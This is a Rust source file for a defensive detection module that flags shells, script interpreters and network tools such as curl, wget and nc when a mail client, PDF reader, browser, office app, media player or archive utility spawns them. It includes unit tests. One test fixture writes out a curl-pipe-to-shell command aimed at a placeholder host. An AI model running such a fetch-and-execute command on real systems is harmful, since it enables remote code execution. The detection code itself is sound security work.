//! Parent-to-child injection heuristics.
//!
//! A shell, interpreter, or network tool spawned by a mail client, PDF
//! reader, browser, office app, media player, or archive utility is a strong
//! signal that a document or page carried an exploit. Categories are checked
//! in a fixed order; the first matching category wins.

use std::sync::LazyLock;

use regex::Regex;

use crate::process::SuspicionLevel;

/// Child command shapes that should not normally be spawned by the parents
/// below: shells, script interpreters, and data-moving network tools.
static RISKY_CHILD_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(^|/|\s)(bash|zsh|sh|osascript|python\d?|perl|ruby|curl|wget|nc|node)(\s|$)")
        .expect("risky child regex")
});

pub struct InjectionCategory {
    pub reason: &'static str,
    pub level: SuspicionLevel,
    parents: &'static [&'static str],
}

/// Categories in evaluation order. Email, PDF, and office parents rate
/// CRITICAL; browsers, media players, and archive utilities rate HIGH.
pub const CATEGORIES: &[InjectionCategory] = &[
    InjectionCategory {
        reason: "email-client-injection",
        level: SuspicionLevel::Critical,
        parents: &["Mail", "Microsoft Outlook", "Outlook", "Spark", "Airmail", "Thunderbird"],
    },
    InjectionCategory {
        reason: "pdf-reader-injection",
        level: SuspicionLevel::Critical,
        parents: &["Preview", "Adobe Acrobat", "Acrobat", "Skim", "PDF Expert"],
    },
    InjectionCategory {
        reason: "browser-injection",
        level: SuspicionLevel::High,
        parents: &[
            "Safari",
            "Google Chrome",
            "Chrome",
            "Firefox",
            "Microsoft Edge",
            "Arc",
            "Brave Browser",
            "Opera",
        ],
    },
    InjectionCategory {
        reason: "office-app-injection",
        level: SuspicionLevel::Critical,
        parents: &[
            "Microsoft Word",
            "Microsoft Excel",
            "Microsoft PowerPoint",
            "Keynote",
            "Pages",
            "Numbers",
            "LibreOffice",
        ],
    },
    InjectionCategory {
        reason: "media-player-injection",
        level: SuspicionLevel::High,
        parents: &["QuickTime Player", "VLC", "Music", "Photos", "Spotify"],
    },
    InjectionCategory {
        reason: "archive-utility-injection",
        level: SuspicionLevel::High,
        parents: &["Archive Utility", "The Unarchiver", "Keka", "BetterZip"],
    },
];

/// Case-insensitive parent match; a trailing qualifier like
/// "Google Chrome Helper" still counts as the base application.
fn parent_matches(parent: &str, candidate: &str) -> bool {
    if parent.eq_ignore_ascii_case(candidate) {
        return true;
    }
    let parent = parent.to_lowercase();
    let mut prefix = candidate.to_lowercase();
    prefix.push(' ');
    parent.starts_with(&prefix)
}

/// Whether this parent belongs to any injection category (used by the
/// input-monitoring rules, which care about provenance but not the child
/// command shape).
pub fn is_spawn_risk_parent(parent: &str) -> bool {
    CATEGORIES
        .iter()
        .any(|c| c.parents.iter().any(|p| parent_matches(parent, p)))
}

/// First category whose parent set contains `parent` and whose child regex
/// matches `cmd`.
pub fn detect(parent: &str, cmd: &str) -> Option<&'static InjectionCategory> {
    if !RISKY_CHILD_RE.is_match(cmd) {
        return None;
    }
    CATEGORIES
        .iter()
        .find(|c| c.parents.iter().any(|p| parent_matches(parent, p)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mail_spawning_shell_is_critical() {
        let cat = detect("Mail", "/bin/bash -c 'curl http://x.example/p | sh'").unwrap();
        assert_eq!(cat.reason, "email-client-injection");
        assert_eq!(cat.level, SuspicionLevel::Critical);
    }

    #[test]
    fn browser_helper_spawning_python_is_high() {
        let cat = detect("Google Chrome Helper (Renderer)", "python3 -c 'import socket'").unwrap();
        assert_eq!(cat.reason, "browser-injection");
        assert_eq!(cat.level, SuspicionLevel::High);
    }

    #[test]
    fn first_category_wins() {
        // "Preview" is both a PDF reader and could arguably be media; PDF
        // comes first in the table.
        let cat = detect("Preview", "osascript -e 'do shell script'").unwrap();
        assert_eq!(cat.reason, "pdf-reader-injection");
    }

    #[test]
    fn benign_child_does_not_match() {
        assert!(detect("Mail", "/System/Library/PrivateFrameworks/MailServiceAgent").is_none());
    }

    #[test]
    fn unrelated_parent_does_not_match() {
        assert!(detect("Terminal", "/bin/bash").is_none());
    }

    #[test]
    fn spawn_risk_parent_union() {
        assert!(is_spawn_risk_parent("Safari"));
        assert!(is_spawn_risk_parent("Archive Utility"));
        assert!(!is_spawn_risk_parent("Xcode"));
    }
}
